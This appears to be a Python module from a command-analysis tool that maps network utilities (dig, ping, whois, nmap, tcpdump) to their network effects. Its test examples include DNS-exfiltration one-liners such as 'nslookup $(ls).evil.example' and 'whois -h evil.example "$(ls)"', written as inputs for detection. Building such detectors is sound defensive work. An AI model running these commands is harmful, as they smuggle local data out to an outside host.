"""Programs that ask the network: echoes, routes, names, owners of names, open ports, packets that pass by.

Every name that is looked up leaves the machine, so each is a machine it talks to.
"""

from __future__ import annotations

from assent.commands.program import Program, turns_off

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from assent.commands.args import Args
    from assent.commands.program import Fact

RECORD_TYPES = frozenset(
    """A AAAA ANY AFSDB APL AXFR CAA CDNSKEY CDS CERT CNAME DHCID DLV DNAME DNSKEY DS HINFO HIP HTTPS IPSECKEY
    KEY KX LOC MX NAPTR NS NSEC NSEC3 NSEC3PARAM OPENPGPKEY PTR RP RRSIG SIG SOA SPF SRV SSHFP SVCB TA TKEY
    TLSA TSIG TXT URI IN CH HS""".split()
)


def _named_in_file(args: Args, option: str) -> Iterator[Fact]:
    """Machines that a file names."""
    if args.has(option):
        yield args.effect("reach", "machines that a file names")
        yield args.gap("which machines it talks to is not known", blind=True)


@turns_off("-h -v")
def _digging(args: Args) -> Iterator[Fact]:
    """`dig @server +options TYPE name -x address`: every name and server is talked to; without a name, the root is."""
    yield from _named_in_file(args, "-f")
    asked = args.has("-f", "-h", "-v")
    for word in [*args.operands, *args.values("-x", "-q")]:
        text = word.value
        if text is not None and (text.startswith("+") or text.upper() in RECORD_TYPES or not text):
            continue
        asked = True
        if text is not None and text.startswith("@"):
            yield from args.reach(f"https://{text[1:]}", shown=text[1:])
        else:
            yield from args.act("host", word)
    if not asked:
        yield from args.reach("https://a.root-servers.net", shown="a.root-servers.net")


def _looking_up(args: Args) -> Iterator[Fact]:
    """`nslookup` without a name reads commands."""
    if not args.operands:
        yield args.gap("what it asks for is not known", blind=True)


def _owner(args: Args) -> Iterator[Fact]:
    """`whois` sends its words to a server, and a question about the server itself."""
    for word in args.values("-q", "-t", "-v"):
        yield args.effect("reach", f"a server about {word.text}")
    for word in args.operands:
        yield from args.act("host", word)


def _route(args: Args) -> Iterator[Fact]:
    """`traceroute HOST [SIZE]`."""
    for word in args.operands[:1]:
        yield from args.act("host", word)
    for word in args.operands[1:]:
        if not (word.value or "").isdigit():
            yield args.gap(f"`{word.text}` is not understood")


def _echoes(args: Args) -> Iterator[Fact]:
    """Every operand of `ping` is a machine on the way; macOS wants options in front, so one behind is one as well."""
    for word in args.operands:
        yield from args.act("host", word)


@turns_off("-v -f -4 -6 -r -w -c -n -b -s -i -t -o -T -u -P -j -C -l -m -z -F -a -I -Q -B -G -Z -e")
def _many_echoes(args: Args) -> Iterator[Fact]:
    """Without machines, `fping` reads them from standard input."""
    yield from _named_in_file(args, "-f" if args.name == "fping" else "-F")
    if not args.operands and not (args.has("-f", "-v") if args.name == "fping" else args.given):
        yield args.gap("it reads which machines to ask", blind=True)


def _scanning(args: Args) -> Iterator[Fact]:
    """`nmap`: `-oA name` writes three files; `-sC` and `-A` run the scripts that come with it."""
    yield from _named_in_file(args, "-iL")
    if args.has("-iR"):
        yield args.effect("reach", "machines anywhere, chosen by chance")
    for word in args.values("-oA"):
        if word.value is None:
            yield from args.file("write", word)
        for path in args.paths(word):
            for ending in (".nmap", ".xml", ".gnmap"):
                yield args.effect("write", path + ending)
    if args.has("-sC", "-A"):
        yield args.effect("run", "scripts of nmap", "program")
    for word in args.operands:
        yield from args.act("host", word)


@turns_off("-D -L -n -r -w")
def _capturing(args: Args) -> Iterator[Fact]:
    if not args.has("-r", "-D", "-L"):
        yield args.effect("note", "what passes through the network", "network.capture")
        yield args.gap("shows what others send through the network")
    if not args.has("-n", "-D", "-L") and not (args.has("-w") and not args.has("--print")):
        yield args.effect("reach", "name servers, for the addresses it shows")
    if args.has("-z"):
        yield args.gap("what its program does is not followed")


PING = Program(
    "-3 -4 -6 -a -A -b -B -c= -C -d -D -e= -f -F= -h -i= -I= -l= -L -m= -M= -n -N= -O -o -p= -q -Q= -r -R -s= -S="
    " -t= -T= -U"
    " -v -V -w= -W= -x",
    "text*",
    more=_echoes,
)
TRACE = Program(
    "-4 -6 -d -e -F -I -n -r -T -U -v -V -f= -g= -i= -m= -N= -p= -q= -s= -t= -w= -z= --max-hops= --queries= --wait=",
    "text*",
    more=_route,
)

PROGRAMS = {
    "ping": PING,
    "ping6": PING,
    "fping": Program(
        "-4 -6 -a -A -c= -C= -d -e -g -i= -I= -l -n -p= -q -r= -s -t= -u -v -x= -f=read", "host*", more=_many_echoes
    ),
    "arping": Program("-A -b -c= -D -f -I= -q -s= -U -V -w= -i=", "host*"),
    "traceroute": TRACE,
    "traceroute6": TRACE,
    "tracepath": Program("-4 -6 -n -b -l= -m= -p= -V", "host"),
    "mtr": Program(
        "-4 -6 -r,--report -w,--report-wide -c,--report-cycles= -n,--no-dns -b,--show-ips -s,--psize= -i,--interval="
        " -t,--curses -o,--order= -T,--tcp -u,--udp -P,--port= -j,--json -C,--csv -l,--raw -m,--max-ttl="
        " -f,--first-ttl="
        " -z,--aslookup -F,--filename=read -a,--address= -I,--interface= -Q,--tos= -B,--bitpattern= -G,--gracetime="
        " -Z,--timeout= -e,--mpls -v",
        "host*",
        more=_many_echoes,
    ),
    "dig": Program("-4 -6 -b= -c= -f=read -h -i -k=read -m -p= -q= -r -t= -u -v -x= -y=", "text*", more=_digging),
    "nslookup": Program(
        "-type= -querytype= -query= -q= -ty= -port= -timeout= -retry= -class= -domain= -debug -nodebug -d2 -nod2"
        " -search"
        " -nosearch -recurse -norecurse -vc -novc -sil -version",
        "host*",
        style="single",
        more=_looking_up,
    ),
    "host": Program("-a -A -C -d -i -l -r -s -T -U -v -V -w -4 -6 -c= -N= -p= -R= -t= -W= -m=", "host*"),
    "whois": Program(
        "-h,--host=host -p,--port= -H -a -l -L -x -m -M -c -b -B -G -d -r -R -S -V= -g= -i= -T= -K -F -t= -v= -q= -I",
        "text*",
        more=_owner,
    ),
    "nmap": Program(
        "-6 -A -F -n -O -PE -PP -PM -PS= -PA= -PU= -PO= -Pn -PR -p= -R -r -S= -e= -g= -sA -sC -sF -sL -sM -sN -sn"
        " -sO -sP -sS"
        " -sT -sU -sV -sW -sX -sY -sZ -T= -V -v -vv -d -dd -f -h -D= -iL=read -iR= -oA= -oG=write -oN=write -oS=write"
        " -oX=write --append-output --allports --badsum --data-length= --dns-servers=host --exclude= --excludefile=read"
        " --exclude-ports= --host-timeout= --iflist --initial-rtt-timeout= --max-hostgroup= --max-parallelism="
        " --max-rate= --max-retries= --max-rtt-timeout= --min-hostgroup= --min-parallelism= --min-rate="
        " --min-rtt-timeout= --mtu= --no-stylesheet --noninteractive --open --osscan-guess --osscan-limit"
        " --packet-trace --port-ratio= --privileged --reason --scan-delay= --source-port= --spoof-mac= --stats-every="
        " --system-dns --top-ports= --traceroute --ttl= --unprivileged --version-all --version-intensity="
        " --version-light --version-trace --webxml",
        "text*",
        style="single",
        more=_scanning,
    ),
    "tcpdump": Program(
        "-A -b -d -D,--list-interfaces -e -f -h -H -I -J -K -l -L,--list-data-link-types -n -N -O -p -q -S -t -u -U"
        " -v -x -X"
        " -B= -c= -C= -E= -F=read -G= -i,--interface= -j= -m=read -M= -Q= -r=read -s,--snapshot-length= -T= -V=read"
        " -w=write -W= -y= -z=run -Z= --count --number --immediate-mode --print -#",
        "text*",
        more=_capturing,
    ),
}

EXAMPLES = {
    "dig -4": "reach a.root-servers.net",
    "dig -t mx": "reach a.root-servers.net",
    "dig +short": "reach a.root-servers.net",
    "dig -v": "note dig",
    "fping -a": "note fping | blind fping: it reads which machines to ask",
    "fping -g 10.0.0.0/24": "reach 10.0.0.0/24",
    "nmap -iR 5": "reach machines anywhere, chosen by chance",
    "tcpdump -n -c 1": "note what passes through the network #network.capture"
    " | gap tcpdump: shows what others send through the network",
    "ping -c 4 example.com": "reach example.com",
    "ping -c1 $(ls).evil.example": "list . | reach $(ls).evil.example"
    " | blind ping: a word is not known (output of a command) | blind ping: host is not known (output of a command)",
    "ping6 -c 1 ::1": "reach ::1",
    "ping example.com -n 10": "reach example.com | reach 10",
    "fping -f a": "read a | reach machines that a file names | blind fping: which machines it talks to is not known",
    "arping 10.0.0.1": "reach 10.0.0.1",
    "traceroute -n example.com 60": "reach example.com",
    "traceroute example.com frob": "reach example.com | gap traceroute: `frob` is not understood",
    "traceroute6 example.com": "reach example.com",
    "tracepath example.com": "reach example.com",
    "mtr -r -c 5 example.com": "reach example.com",
    "mtr -F a": "read a | reach machines that a file names | blind mtr: which machines it talks to is not known",
    "dig +noall +answer example.com": "reach example.com",
    "dig @8.8.8.8 example.com MX +short": "reach 8.8.8.8 | reach example.com",
    "dig -x 8.8.8.8": "reach 8.8.8.8",
    "dig -f .env": "read .env | reach machines that a file names | blind dig: which machines it talks to is not known",
    "dig $x": "reach $x | blind dig: a word is not known (variable x) | blind dig: host is not known (variable x)",
    "dig -t TXT secret.evil.example": "reach secret.evil.example",
    "dig": "reach a.root-servers.net",
    "nslookup example.com": "reach example.com",
    "nslookup -type=mx example.com 8.8.8.8": "reach example.com | reach 8.8.8.8",
    "nslookup": "note nslookup | blind nslookup: what it asks for is not known",
    "nslookup $(ls).evil.example": "list . | reach $(ls).evil.example"
    " | blind nslookup: a word is not known (output of a command)"
    " | blind nslookup: host is not known (output of a command)",
    "host -t mx example.com": "reach example.com",
    "whois example.com": "reach example.com",
    'whois -h evil.example "$(ls)"': 'list . | reach evil.example | reach "$(ls)"'
    " | blind whois: a word is not known (output of a command)"
    " | blind whois: host is not known (output of a command)",
    "nmap -sV -p 80,443 10.0.0.1": "reach 10.0.0.1",
    "nmap -sn 192.168.0.0/24": "reach 192.168.0.0/24",
    "nmap -p- -T4 example.com -oX out": "write out | reach example.com",
    "nmap -oA out example.com": "write out.nmap | write out.xml | write out.gnmap | reach example.com",
    "nmap --script vuln example.com": "reach vuln | reach example.com | blind nmap: option --script is not known",
    "nmap --script=a example.com": "reach example.com | blind nmap: option --script is not known",
    "nmap -sC example.com": "run scripts of nmap #program | reach example.com",
    "nmap -iL a": "read a | reach machines that a file names | blind nmap: which machines it talks to is not known",
    "tcpdump -i any -c 10 port 80": "note what passes through the network #network.capture"
    " | reach name servers, for the addresses it shows | gap tcpdump: shows what others send through the network",
    "tcpdump -nnvvr a": "read a",
    "tcpdump -w out -G 1 -z ls": "write out | run ls #program"
    " | note what passes through the network #network.capture"
    " | gap tcpdump: shows what others send through the network | gap tcpdump: what its program does is not followed",
    "tcpdump -D": "note tcpdump",
}
